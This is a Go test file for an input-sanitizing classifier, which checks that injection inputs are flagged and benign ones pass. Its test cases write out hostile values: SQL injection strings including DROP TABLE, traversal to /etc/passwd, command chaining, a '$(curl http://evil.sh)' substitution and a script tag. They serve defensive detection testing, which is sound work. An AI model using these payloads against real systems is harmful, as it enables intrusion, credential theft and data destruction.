package sanitize

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestClassify(t *testing.T) {
	s := New(Options{})

	tests := []struct {
		name      string
		input     string
		wantValid bool
		wantIssue string
	}{
		{
			name:      "sql tautology",
			input:     "' OR '1'='1",
			wantValid: false,
			wantIssue: "Potential SQL injection detected",
		},
		{
			name:      "union select",
			input:     "1 UNION SELECT username, password FROM users",
			wantValid: false,
			wantIssue: "Potential SQL injection detected",
		},
		{
			name:      "chained drop",
			input:     "x'; DROP TABLE leads",
			wantValid: false,
			wantIssue: "Potential SQL injection detected",
		},
		{
			name:      "path traversal",
			input:     "../../etc/passwd",
			wantValid: false,
			wantIssue: "Potential path traversal detected",
		},
		{
			name:      "encoded traversal",
			input:     "%2e%2e%2f%2e%2e%2fetc",
			wantValid: false,
			wantIssue: "Potential path traversal detected",
		},
		{
			name:      "command chaining",
			input:     "name; cat /etc/passwd",
			wantValid: false,
			wantIssue: "Potential command injection detected",
		},
		{
			name:      "command substitution",
			input:     "$(curl http://evil.sh)",
			wantValid: false,
			wantIssue: "Potential command injection detected",
		},
		{
			name:      "script tag",
			input:     "<script>alert(1)</script>",
			wantValid: false,
			wantIssue: "Potential script injection detected",
		},
		{
			name:      "benign address",
			input:     "742 Evergreen Terrace, Springfield",
			wantValid: true,
		},
		{
			name:      "benign email",
			input:     "jane.doe@example.com",
			wantValid: true,
		},
		{
			name:      "empty string",
			input:     "",
			wantValid: true,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			report := s.Classify(tt.input)
			assert.Equal(t, tt.wantValid, report.Valid)
			if tt.wantIssue != "" {
				assert.Contains(t, report.Issues, tt.wantIssue)
			}
		})
	}
}

func TestClassifyDoesNotMutate(t *testing.T) {
	s := New(Options{})

	in := "' OR '1'='1"
	_ = s.Classify(in)
	assert.Equal(t, "' OR '1'='1", in)
}

func TestClassifyOverlongInput(t *testing.T) {
	s := New(Options{MaxLength: 100})

	report := s.Classify(strings.Repeat("a", 101))
	assert.False(t, report.Valid)
	assert.Contains(t, report.Issues, "Input exceeds maximum allowed length")
}

func TestClassifyCategoryFilter(t *testing.T) {
	s := New(Options{})

	// SQL-only classification ignores a traversal payload.
	report := s.Classify("../../etc/passwd", CategorySQLInjection)
	assert.True(t, report.Valid)

	report = s.Classify("' OR '1'='1", CategorySQLInjection)
	assert.False(t, report.Valid)
}

func TestClassifyDeduplicatesIssues(t *testing.T) {
	s := New(Options{})

	// Trips both the tautology and comment rules within one family.
	report := s.Classify("' OR '1'='1' --")
	assert.False(t, report.Valid)

	count := 0
	for _, issue := range report.Issues {
		if issue == "Potential SQL injection detected" {
			count++
		}
	}
	assert.Equal(t, 1, count, "one issue per family")
}

func TestClassifyValue(t *testing.T) {
	s := New(Options{SkipFields: []string{"password"}})

	payload := map[string]any{
		"q":        "' OR '1'='1",
		"path":     "../../secret",
		"password": "x'; DROP TABLE users", // skipped value
		"ok":       "hello",
	}

	report := s.ClassifyValue(payload)
	assert.False(t, report.Valid)
	assert.Contains(t, report.Issues, "Potential SQL injection detected")
	assert.Contains(t, report.Issues, "Potential path traversal detected")
}

func TestParseRules(t *testing.T) {
	yml := `
rules:
  - name: custom_block
    category: custom
    pattern: "forbidden-word"
    issue: "Custom issue detected"
`
	rules, err := ParseRules(strings.NewReader(yml))
	require.NoError(t, err)
	require.Len(t, rules, 1)
	assert.Equal(t, "custom_block", rules[0].Name)

	s := New(Options{ExtraRules: rules})
	report := s.Classify("this has a forbidden-word inside")
	assert.False(t, report.Valid)
	assert.Contains(t, report.Issues, "Custom issue detected")
}

func TestParseRulesErrors(t *testing.T) {
	tests := []struct {
		name string
		yml  string
	}{
		{
			name: "invalid pattern",
			yml:  "rules:\n  - name: bad\n    pattern: \"[\"\n    issue: x\n",
		},
		{
			name: "missing name",
			yml:  "rules:\n  - pattern: \"a\"\n    issue: x\n",
		},
		{
			name: "missing issue",
			yml:  "rules:\n  - name: a\n    pattern: \"a\"\n",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := ParseRules(strings.NewReader(tt.yml))
			assert.Error(t, err)
		})
	}
}
